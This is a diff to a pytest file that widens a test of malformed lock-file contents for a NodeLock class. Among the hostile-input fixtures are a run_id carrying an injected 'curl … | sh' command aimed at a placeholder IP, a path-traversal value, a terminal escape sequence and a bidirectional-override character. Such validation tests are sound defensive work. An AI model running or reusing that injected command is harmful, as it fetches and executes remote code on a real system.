@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 import stat
 import threading
@@ -86,7 +87,31 @@ def test_a_lock_that_is_gone_is_no_lock(lock: NodeLock) -> None:
         lock.check_mine(owner())
 
 
-@pytest.mark.parametrize("text", ["", "{}", "[]", '{"run_id": "x"}'])
+def lock_text(**changes: object) -> str:
+    return json.dumps({**owner(), **changes})
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "{}",
+        "[]",
+        "7",
+        '{"run_id": "x"}',
+        lock_text(run_id="x; curl http://192.0.2.1 | sh"),
+        lock_text(run_id=["CHG-1"]),
+        lock_text(run_id="../CHG-1"),
+        lock_text(attempt="2"),
+        lock_text(attempt=True),
+        lock_text(attempt=-1),
+        lock_text(number={"a": 1}),
+        lock_text(number="a b"),
+        lock_text(controller="ops\x1b[2J"),
+        lock_text(controller="ops\u202e"),
+        lock_text(controller=None),
+    ],
+)
 def test_a_damaged_lock_is_named_and_kept(lock: NodeLock, text: str) -> None:
     lock.path.write_text(text, encoding="utf-8")
     for act in (lambda: lock.take(owner(), ""), lambda: lock.check_free(owner(), ""), lambda: lock.check_mine(owner())):
